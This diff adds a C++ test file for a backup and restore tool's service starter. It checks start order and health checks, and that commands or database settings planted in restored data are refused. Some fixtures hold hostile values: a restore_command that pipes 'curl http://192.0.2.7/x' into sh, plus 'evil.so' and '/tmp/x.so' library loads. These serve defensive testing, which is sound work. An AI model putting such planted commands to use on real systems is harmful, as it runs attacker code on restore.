@@ -1,0 +1,202 @@
+// SPDX-FileCopyrightText: 2026 The lastgood authors
+// SPDX-License-Identifier: Apache-2.0
+// Proves that services are started in their order, wait for each other, and are given up in order; that commands are
+// only taken from the file that was set, and never from a backup; that nothing is started on data that would run what
+// was planted.
+#include "readiness/start_services.h"
+
+#include <fmt/format.h>
+
+#include <algorithm>
+#include <chrono>
+
+#include "readiness/testing/services_story.h"
+
+namespace lastgood::readiness {
+namespace {
+
+using services::Moment;
+using testing::Services;
+using testing::write;
+
+TEST_F(Services, AreStartedInTheirOrderAndTheHistorySaysWhen) {
+  const std::string sign = scratch_.path() + "/db-is-up";
+  const auto file =
+      set("[service.opd]\ndepends_on=[\"db\"]\nstart=[\"/bin/true\"]\nhealthcheck={test=[\"CMD\",\"/usr/bin/"
+          "test\",\"-e\",\"" +
+          sign + "\"],interval=\"10ms\"}\n[service.db]\nstart=[\"/usr/bin/touch\",\"" + sign +
+          "\"]\nhealthcheck={test=[\"CMD\",\"/usr/bin/test\",\"-e\",\"" + sign + "\"],interval=\"10ms\"}\n");
+  EXPECT_EQ(start(file), "db starting\ndb healthy\nopd healthy\n");
+  const auto history = services::read_history(scratch_.path());
+  ASSERT_TRUE(history.ok());
+  EXPECT_EQ(history.value().entries.size(), 3U);
+  EXPECT_EQ(history.value().newest("db")->moment, Moment::healthy);
+  EXPECT_EQ(history.value().newest("nobody"), nullptr);
+}
+
+TEST_F(Services, ThatWaitForOneThatFailsAreNotStarted) {
+  const std::string sign = scratch_.path() + "/opd-was-started";
+  const auto file = set("[service.opd]\ndepends_on=[\"db\"]\nstart=[\"/usr/bin/touch\",\"" + sign +
+                        "\"]\n[service.db]\nstart=[\"/bin/sh\",\"-c\",\"echo no space left; exit "
+                        "3\"]\n[service.mail]\nstart=[\"/bin/true\"]\n");
+  EXPECT_EQ(start(file), "db failed\nopd not_started\nmail starting\nmail starting\n");
+  EXPECT_FALSE(std::filesystem::exists(sign));
+}
+
+TEST_F(Services, ThatDoNotBecomeWellAreSaidSo) {
+  const auto file =
+      set("[service.db]\nstart=[\"/bin/true\"]\nhealthcheck={tcp=\"127.0.0.1:1\",retries=2,interval=\"10ms\"}\n");
+  EXPECT_EQ(start(file), "db starting\ndb failed\n");
+  EXPECT_NE(sentence_.find("did not become well"), std::string::npos) << sentence_;
+}
+
+TEST_F(Services, HooksRunFirstAndMayStopAStart) {
+  EXPECT_EQ(
+      start(set("[service.a]\nstart=[\"/bin/true\"]\n[[service.a.hooks.post_restore]]\ncommand=[\"/bin/false\"]\n")),
+      "a failed\n");
+  EXPECT_EQ(start(set("[service.a]\nstart=[\"/bin/true\"]\n[[service.a.hooks.post_restore]]\ncommand=[\"/bin/false\"]\n"
+                      "on_error=\"continue\"\n[[service.a.hooks.post_restore]]\ncommand=[\"/bin/"
+                      "sleep\",\"9\"]\nexec_timeout=\"50ms\"\non_error="
+                      "\"continue\"\n")),
+            "a failed\na failed\na starting\na starting\n");
+}
+
+TEST_F(Services, CommandsAreOnlyTakenFromTheFileThatWasSet) {
+  set("[service.a]\nstart=[\"/bin/true\"]\n");
+  EXPECT_TRUE(read_set_services(scratch_.path()).ok());
+  std::ofstream(kept_services_path(scratch_.path()), std::ios::app) << "# changed\n";
+  const auto changed = read_set_services(scratch_.path());
+  ASSERT_FALSE(changed.ok());
+  EXPECT_EQ(changed.error().code, base::ErrorCode::damaged_container);
+}
+
+TEST_F(Services, AFileFromABackupOrFromDataIsRefused) {
+  model::BackupSource source;
+  source.name = "nas";
+  source.address = "folder:" + scratch_.path() + "/backup";
+  ASSERT_TRUE(store_.backups().put_source(source).ok());
+  EXPECT_EQ(refused("[service.a]\n", scratch_.path() + "/backup/etc/services.toml"), base::ErrorCode::misuse);
+  EXPECT_NE(what_.find("commands could be the attacker's"), std::string::npos);
+  const std::string data = scratch_.path() + "/data";
+  EXPECT_EQ(
+      refused("[service.a]\n[[service.a.data]]\nkind=\"files\"\npath=\"" + data + "\"\n", data + "/services.toml"),
+      base::ErrorCode::misuse);
+  ASSERT_TRUE(ledger_->append("restore-begun", {{"target", scratch_.path() + "/restored"}}).ok());
+  EXPECT_EQ(refused("[service.a]\n", scratch_.path() + "/restored/services.toml"), base::ErrorCode::misuse);
+}
+
+TEST_F(Services, AProgramFromABackupOrFromDataIsRefused) {
+  const std::string data = scratch_.path() + "/data";
+  write(data + "/start.sh", "#!/bin/sh\ntouch " + scratch_.path() + "/was-run\n");
+  const std::string unit = "[[service.a.data]]\nkind=\"files\"\npath=\"" + data + "\"\n";
+  for (const std::string& command :
+       {"start=[\"" + data + "/start.sh\"]\n", "healthcheck={test=[\"CMD\",\"" + data + "/start.sh\"]}\n",
+        "stop=[\"" + data + "/start.sh\"]\n"})
+    EXPECT_EQ(refused("[service.a]\n" + command + unit, scratch_.path() + "/own/s.toml"), base::ErrorCode::misuse);
+  // Through a link, too.
+  std::filesystem::create_directory_symlink(data, scratch_.path() + "/link");
+  EXPECT_EQ(refused("[service.a]\nstart=[\"" + scratch_.path() + "/link/start.sh\"]\n" + unit,
+                    scratch_.path() + "/own/s.toml"),
+            base::ErrorCode::misuse);
+  EXPECT_FALSE(std::filesystem::exists(scratch_.path() + "/was-run"));
+}
+
+TEST_F(Services, ThatDoNotWaitForEachOtherAreStartedAtTheSameTime) {
+  std::string text;
+  for (int i = 0; i < 4; ++i) text += fmt::format("[service.s{}]\nstart=[\"/bin/sleep\",\"0.5\"]\n", i);
+  text += "[service.last]\ntier=0\ndepends_on=[\"s0\",\"s3\"]\nstart=[\"/bin/true\"]\n";
+  const auto file = set(text);
+  const auto begun = std::chrono::steady_clock::now();
+  const std::string ended = start(file);
+  EXPECT_LT(std::chrono::steady_clock::now() - begun, std::chrono::milliseconds(1900));  // one by one it takes 2 s
+  EXPECT_EQ(ended,
+            "s0 starting\ns0 starting\ns3 starting\ns3 starting\nlast starting\nlast starting\ns1 starting\ns1 "
+            "starting\ns2 starting\ns2 starting\n");
+  const auto history = services::read_history(scratch_.path());
+  ASSERT_TRUE(history.ok());
+  EXPECT_EQ(history.value().entries.size(), 10U);
+  // s1 and s2 it need not wait for.
+  std::vector<std::string> order;
+  for (const auto& entry : history.value().entries) order.push_back(entry.service);
+  const auto first_of_last = std::find(order.begin(), order.end(), "last");
+  for (const char* const needed : {"s0", "s3"})
+    EXPECT_EQ(std::find(first_of_last, order.end(), needed), order.end()) << needed << " was not awaited";
+}
+
+TEST_F(Services, AreNotStartedOnDataThatWouldRunWhatWasPlanted) {
+  const std::string data = scratch_.path() + "/srv/pg";
+  const std::string sign = scratch_.path() + "/db-was-started";
+  const auto text = [&](const std::string& kind, const std::string& more) {
+    return "[service.db]\nstart=[\"/usr/bin/touch\",\"" + sign + "\"]\n[[service.db.data]]\nkind=\"" + kind +
+           "\"\npath=\"" + data + "\"\n" + more + "[[service.db.hooks.post_restore]]\ncommand=[\"/usr/bin/touch\",\"" +
+           sign + "\"]\n[service.opd]\ndepends_on=[\"db\"]\n[service.mail]\nstart=[\"/bin/true\"]\n";
+  };
+  const std::string refused = "db failed\nopd not_started\nmail starting\nmail starting\n";
+  const std::string allowed = "allow_settings=[\"archive_command\"]\n";
+  const auto try_start = [&](const std::string& kind, const std::string& more = {}) {
+    std::filesystem::remove(sign);
+    const std::string out = start(set(text(kind, more)));
+    EXPECT_EQ(out == refused, !std::filesystem::exists(sign)) << out;
+    return out == refused;
+  };
+  EXPECT_FALSE(try_start("postgresql")) << "no such folder on this machine";
+  write(data + "/postgresql.conf", "port = 5432\narchive_command = '/bin/cp %p /wal/%f'\n");
+  EXPECT_FALSE(try_start("postgresql")) << "a live server's own setting";
+  ASSERT_TRUE(ledger_->append("restore-begun", {{"target", scratch_.path() + "/other"}}).ok());
+  EXPECT_FALSE(try_start("postgresql")) << "another folder was restored";
+  const std::vector<std::string> elsewhere{"/etc", scratch_.path() + "/srv"};
+  ASSERT_TRUE(ledger_->append("restore-begun", {{"target", "/"}, {"settings_in", elsewhere}}).ok());
+  EXPECT_FALSE(try_start("postgresql")) << "in place of the machine, and nothing of it into this folder";
+
+  ASSERT_TRUE(ledger_->append("restore-begun", {{"target", scratch_.path() + "/srv"}}).ok());
+  EXPECT_TRUE(try_start("postgresql"));
+  const auto history = services::read_history(scratch_.path());
+  ASSERT_TRUE(history.ok());
+  const std::string& why = history.value().newest("db")->sentence;
+  EXPECT_NE(why.find("postgresql.conf:2 archive_command = '/bin/cp %p /wal/%f'"), std::string::npos) << why;
+  EXPECT_NE(why.find("lastgood replay " + data), std::string::npos) << why;
+  EXPECT_NE(why.find("allow_settings = [\"archive_command\"]"), std::string::npos) << why;
+  EXPECT_NE(ledger_text().find("service-start-refused"), std::string::npos);
+  EXPECT_FALSE(try_start("postgresql", allowed));
+  // What a person has read is that setting, and no other one.
+  write(data + "/postgresql.auto.conf", "Session-Preload-Libraries = '/tmp/x.so'\n");
+  EXPECT_TRUE(try_start("postgresql", allowed));
+  write(data + "/postgresql.auto.conf", std::string((1U << 20U) + 1, '#'));
+  EXPECT_TRUE(try_start("postgresql", allowed)) << "too large to be read";
+  std::filesystem::remove(data + "/postgresql.auto.conf");
+  std::filesystem::create_symlink("/tmp/elsewhere.conf", data + "/postgresql.auto.conf");
+  EXPECT_TRUE(try_start("postgresql", allowed)) << "a link";
+  std::filesystem::remove(data + "/postgresql.auto.conf");
+  EXPECT_FALSE(try_start("postgresql", allowed));
+}
+
+TEST_F(Services, ThatPeopleStartAreNamedAlsoWhereNobodyCanAskThem) {
+  EXPECT_EQ(start(set("[service.opd]\ntitle=\"OPD\"\n")), "") << "nothing of it happened, so no history has it";
+  EXPECT_EQ(told_,
+            "people start it, the services file has no 'start'; whether it is up was not looked at: no health check is "
+            "written down\n");
+}
+
+TEST_F(Services, AreNotStartedOnDataLaidOutToRunWhoeverRestoredThem) {
+  const std::string data = scratch_.path() + "/pg";
+  const std::string sign = scratch_.path() + "/was-started";
+  const std::string unit =
+      "[service.db]\nstart=[\"/usr/bin/touch\",\"" + sign + "\"]\n[[service.db.data]]\npath=\"" + data + "\"\nkind=";
+  write(data + "/recovery.signal", "");
+  write(data + "/postgresql.auto.conf", "restore_command = 'curl http://192.0.2.7/x | sh'\n");
+  EXPECT_EQ(start(set(unit + "\"postgresql\"\n")), "db failed\n");
+  // Behind a link, too: the engine follows it.
+  std::filesystem::rename(data, data + "-real");
+  std::filesystem::create_symlink(data + "-real", data);
+  EXPECT_EQ(start(set(unit + "\"postgresql\"\n")), "db failed\n");
+  EXPECT_EQ(start(set(unit + "\"postgresql\"\nallow_settings=[\"restore_command\"]\n")), "db starting\ndb starting\n");
+  std::filesystem::remove(data);
+  std::filesystem::remove(sign);
+  write(data + "/my.cnf", "[mysqld]\nplugin-load-add = evil.so\n");
+  EXPECT_EQ(start(set(unit + "\"mariadb\"\n")), "db failed\n");
+  EXPECT_FALSE(std::filesystem::exists(sign));
+  EXPECT_EQ(start(set(unit + "\"mariadb\"\nallow_settings=[\"plugin_load_add\"]\n")), "db starting\ndb starting\n");
+}
+
+}  // namespace
+}  // namespace lastgood::readiness
